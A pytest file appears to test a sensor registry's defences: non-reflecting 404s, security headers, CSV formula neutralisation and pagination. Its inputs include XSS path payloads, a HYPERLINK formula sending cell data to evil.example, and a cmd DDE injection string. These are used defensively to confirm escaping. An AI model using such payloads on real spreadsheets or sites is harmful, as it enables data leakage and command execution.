"""Issue #11 probes against the registry: reflected input, baseline headers, CSV formulas, pagination."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from dtpr_core.announcement import Announcement
from dtpr_core.register import sensor_to_data
from dtpr_core.yaml_source import load_register_file
from dtpr_store.db import session_scope
from dtpr_store.writes import record_announcements
from registry.csv_cells import FORMULA_STARTS, safe_cell
from tests.registry.conftest import BASE_URL, assert_error_shape, make_settings, sensor_body

ROOT = Path(__file__).resolve().parents[2]
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "path",
    ["/api/v1/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/export/x%22onload%3D1", "/nothing/%3Cb%3Ehello%3C%2Fb%3E.json"],
)
def test_a_json_404_reflects_nothing_of_the_request(client: TestClient, path: str) -> None:
    response = client.get(path)
    body = assert_error_shape(response, 404)
    for fragment in ("script", "onload", "hello", "<", "%3C", "nothing/"):
        assert fragment not in body["error"], body
    assert response.headers["x-content-type-options"] == "nosniff"


def test_every_kind_of_answer_carries_the_baseline_headers(client: TestClient, admin: dict[str, str]) -> None:
    client.put("/api/v1/sensors/ANG-TEST-0001", json=sensor_body(), headers=admin)
    answers = {
        "404": client.get("/api/v1/nothing"),
        "405": client.delete("/api/v1/sensors"),
        "401": client.get("/api/v1/feedback"),
        "422": client.get("/api/v1/sensors?limit=0"),
        "json": client.get("/api/v1/sensors"),
        "csv": client.get("/export/sensors.csv"),
        "page": client.get("/s/ANG-TEST-0001"),
        "head": client.head("/s/ANG-TEST-0001"),
        "html 404": client.get("/s/ANG-NOPE-0001", headers={"Accept": "text/html"}),
        "healthz": client.get("/healthz"),
    }
    for name, response in answers.items():
        assert response.headers.get("x-content-type-options") == "nosniff", name
        assert response.headers.get("referrer-policy") == "no-referrer", name
        assert len(response.headers.get_list("x-content-type-options")) == 1, f"{name}: the header is doubled"


def test_413_answered_by_the_size_limit_has_them_too(database_url: str) -> None:
    from registry.app import create_app

    app = create_app(make_settings(database_url, max_body_bytes=1024))
    with TestClient(app, base_url=BASE_URL) as client:
        response = client.post("/api/v1/sensors", content=b"x" * 5000)
    app.state.engine.dispose()
    assert response.status_code == 413 and response.headers["x-content-type-options"] == "nosniff"


def shipped_sensor(sensor_id: str) -> dict[str, Any]:
    result = load_register_file(str(ROOT / "sensors.yaml"))
    assert result.register is not None
    sensor = next(s for s in result.register.sensors if s.id == sensor_id)
    return sensor_to_data(sensor)


def _cells(response_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response_text.lstrip("\ufeff"))))


def test_formulas_in_sensor_texts_are_neutralised_in_every_csv(client: TestClient, admin: dict[str, str]) -> None:
    body = shipped_sensor("ANG-VID-0001")  # a personal-data sensor, so it is in the inventory too
    body["name"] = {"fr": EVIL_NAME, "en": "+cmd|' /C calc'!A0"}
    body["location"]["zone"] = "@SUM(1+1)"
    assert client.put("/api/v1/sensors/ANG-VID-0001", json=body, headers=admin).status_code in (200, 201)
    exported = _cells(client.get("/export/sensors.csv").text)
    assert exported[0]["name_fr"] == "'" + EVIL_NAME and exported[0]["name_en"].startswith("'+cmd")
    assert float(exported[0]["lon"]) == body["location"]["lon"] < 0, "numbers stay numbers"
    inventory = _cells(client.get("/inventory.csv").text)
    assert (inventory[0]["name"], inventory[0]["zone"]) == ("'" + EVIL_NAME, "'@SUM(1+1)")
    for row in inventory + exported:
        for name, value in row.items():
            assert name in ("lat", "lon") or not value.startswith(FORMULA_STARTS), value


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.lists(st.text(), max_size=3)))
def test_no_text_cell_can_start_a_formula(value: object) -> None:
    cell = safe_cell(value)
    if isinstance(cell, str):
        assert not cell.startswith(FORMULA_STARTS)
        if isinstance(value, str):
            assert cell in (value, "'" + value), "only an apostrophe is ever added"
    else:
        assert cell == value and not isinstance(value, str)


def test_discovered_devices_are_paginated_with_the_list_envelope(client: TestClient, app, reader) -> None:
    at = datetime(2026, 11, 1, tzinfo=UTC)
    with session_scope(app.state.engine) as session:
        record_announcements(
            session,
            announcements=[Announcement(f"ha-dev{i:02d}", "homeassistant", at, "sensor/t") for i in range(25)],
        )
    page = client.get("/api/v1/discovered?limit=10&offset=20", headers=reader).json()
    assert set(page) == {"items", "total", "limit", "offset"}
    assert [item["id"] for item in page["items"]] == [f"ha-dev{i:02d}" for i in range(20, 25)]
    assert (page["total"], page["limit"], page["offset"]) == (25, 10, 20)
    assert len(client.get("/api/v1/discovered", headers=reader).json()["items"]) == 25
    assert_error_shape(client.get("/api/v1/discovered?limit=5000", headers=reader), 422)
    quarantine = client.get("/api/v1/quarantine", headers=reader).json()
    assert set(quarantine) == {"items", "total", "limit", "offset"} and quarantine["total"] == 0
